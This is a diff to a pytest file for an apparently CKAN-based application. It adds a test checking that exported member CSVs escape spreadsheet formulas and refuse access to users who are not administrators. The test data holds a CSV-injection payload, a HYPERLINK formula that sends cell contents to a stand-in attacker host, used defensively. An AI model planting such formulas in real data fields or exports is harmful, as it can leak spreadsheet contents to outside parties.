@@ -2,10 +2,13 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 from typing import Any
 
 import pytest
+from ckan import model
 from ckan.tests import factories
 
 pytestmark = pytest.mark.usefixtures("clean_db", "clean_index", "with_plugins")
@@ -43,3 +46,19 @@ def test_the_pages_that_ask_before_deleting_make_the_red_button_delete(
         assert page.count("<h1") == 1
         app.post(path, headers=token, data={"cancel": ""}, follow_redirects=False)
     assert app.get(f"/contract/{made['name']}").status_code == 200
+
+
+def test_members_are_downloaded_as_cells_that_no_spreadsheet_runs(
+    app: Any, unit: Any, administrator: Any, officer: Any
+) -> None:
+    formula = '=HYPERLINK("https://evil.example/?"&A1)'
+    model.User.get(officer["name"]).fullname = formula
+    model.Session.commit()
+    address = f"/organization/member_dump/{unit['name']}"
+    for prefix in ("", "/en"):
+        answer = app.get(f"{prefix}{address}", headers={"Authorization": administrator["token"]})
+        assert answer.status_code == 200
+        rows = list(csv.reader(io.StringIO(answer.text)))
+        assert [officer["name"], officer["email"], f"'{formula}"] in [row[:3] for row in rows]
+    for nobody in ({}, {"Authorization": officer["token"]}):
+        assert app.get(address, headers=nobody, follow_redirects=False).status_code == 403
